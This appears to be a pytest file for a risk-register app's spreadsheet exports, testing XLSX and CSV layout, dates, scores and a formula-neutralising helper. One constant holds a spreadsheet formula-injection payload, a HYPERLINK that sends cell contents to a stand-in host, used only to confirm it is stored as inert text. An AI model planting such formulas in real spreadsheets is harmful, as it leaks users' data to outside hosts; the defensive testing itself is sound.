"""The register and action plan as XLSX and CSV, read back as Excel users would see them."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import openpyxl

from prevent_desktop.reports.risk_register_export import (
    write_actions_csv,
    write_csv,
    write_xlsx,
)
from prevent_desktop.reports.spreadsheet import neutralise
from prevent_desktop.services.workspace import Workspace
from tests.reports.conftest import Added, add_risk

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


def _column(sheet, header: str) -> int:  # type: ignore[no-untyped-def]
    headers = [cell.value for cell in sheet[1]]
    return headers.index(header) + 1


def test_xlsx_sheets_types_and_layout(
    workspace: Workspace, register: Added, tmp_path: Path
) -> None:
    add_risk(workspace, FORMULA)
    out = tmp_path / "register.xlsx"
    write_xlsx(workspace, out)

    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Register", "Action plan"]
    sheet = book["Register"]
    assert sheet["A1"].value == "Reference" and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.max_row == 1 + len(workspace.risks.list_risks())
    assert sheet.column_dimensions["B"].width > 20

    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    mine = next(row for row in rows.values() if row[1].value == register.title)
    next_review = mine[_column(sheet, "Next review") - 1]
    assert isinstance(next_review.value, datetime)
    assert next_review.number_format == "DD/MM/YYYY"
    assert mine[_column(sheet, "Residual score") - 1].value == 8  # 2 × 4 after the review
    assert mine[_column(sheet, "RAG") - 1].value == "Amber"
    assert mine[_column(sheet, "Review overdue") - 1].value == "No"  # the review reset it

    # The formula-looking title is text, not a formula Excel would run.
    titles = [row[1] for row in rows.values()]
    injected = next(cell for cell in titles if "HYPERLINK" in str(cell.value))
    assert injected.data_type == "s"
    assert injected.value == FORMULA  # shown as typed, stored as text

    actions = book["Action plan"]
    assert [c.value for c in actions[1]][:3] == ["Risk reference", "Risk title", "Action"]
    action_rows = [row for row in actions.iter_rows(min_row=2, values_only=True)]
    assert len(action_rows) == 2
    overdue = next(row for row in action_rows if row[2] == register.action)
    assert isinstance(overdue[_column(actions, "Due") - 1], datetime)
    assert overdue[_column(actions, "Overdue") - 1] == "Yes"


def test_csv_register_has_bom_header_and_a_row_per_risk(
    workspace: Workspace, register: Added, tmp_path: Path
) -> None:
    add_risk(workspace, FORMULA)
    out = tmp_path / "register.csv"
    write_csv(workspace, out)

    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Reference", "Title", "Description"]
    assert len(body) == len(workspace.risks.list_risks())
    mine = next(row for row in body if row[1] == register.title)
    next_review = mine[header.index("Next review")]
    assert datetime.strptime(next_review, "%d/%m/%Y")
    assert mine[header.index("Residual score")] == "8"
    assert any(row[1] == "'" + FORMULA for row in body)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in body for cell in row)


def test_actions_csv(workspace: Workspace, register: Added, tmp_path: Path) -> None:
    out = tmp_path / "actions.csv"
    write_actions_csv(workspace, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2
    done = next(row for row in rows if row["Action"] == "Brief reception staff")
    assert done["Status"] == "Done" and done["Risk title"] == register.title
    assert datetime.strptime(done["Completed"], "%d/%m/%Y").date() < date.today()


def test_neutralise() -> None:
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(dangerous).startswith("'")
    for harmless in ("Risk", "• control", "", "1-2"):
        assert neutralise(harmless) == harmless
